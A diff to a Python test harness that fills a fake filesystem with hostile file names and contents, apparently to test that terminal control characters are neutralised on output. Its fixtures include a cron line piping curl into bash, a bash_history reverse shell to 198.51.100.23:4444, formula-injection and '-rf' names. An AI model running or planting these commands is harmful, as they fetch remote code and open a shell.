@@ -11,7 +11,7 @@ from harness import DONE, environment, icecore, scratch
 
 MIB = 1 << 20
 NAMES = [b"red\x1b[31m", b"title\x1b]0;owned\x07", b"two\nlines", b"back\rwards", b"tab\there", b"bad\xff\xfeutf8", b"csi\xc2\x9b31m", b"delete\x7fme",
-         b"bidi\xe2\x80\xaegpj.exe", b"pipe|name", b"back\\slash", b"\\x1b[31m", b"\x1b[31m", b"comma,\"quote\"", b"=cmd|' /C calc'!A0",
+         b"bidi\xe2\x80\xaegpj.exe", b"pipe|name", b"back\\slash", b"\\x1b[31m", b"\x1b[31m", b"comma,\"quote\"", b"=cmd|'calc'!A0",
          "gr\u00fc\u00df-\u65e5\u672c".encode(), b" leading", b"trailing ", b"a" * 255, b"-rf", b"\x01"]
 # Not to be written to a terminal: C0 but tab and newline, DEL, C1, and what turns the direction of text.
 STEERING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")
@@ -47,7 +47,7 @@ def fill(root):
     write(root + b"/etc/passwd", b"root:x:0:0:root:/root:/bin/bash\nev\x1bil:x:0:0::/:/bin/sh\n")
     write(root + b"/var/lib/dpkg/status", b"Package: base-files\nStatus: install ok installed\nVersion: 12\nArchitecture: amd64\n\n")
     write(root + b"/etc/cron.d/job\x1b[2J", b"* * * * * root curl http://198.51.100.23/\x1b[31mx | bash\n")
-    write(root + b"/root/.bash_history", b"curl http://198.51.100.23/\x1b]0;pwn\x07i.sh | bash\n")
+    write(root + b"/root/.bash_history", b"bash -i >& /dev/tcp/198.51.100.23/4444\x1b]0;pwn\x07 0>&1\n")
     with open("/bin/bash", "rb") as file:
         shell = file.read(64)
     for number, name in enumerate(NAMES):
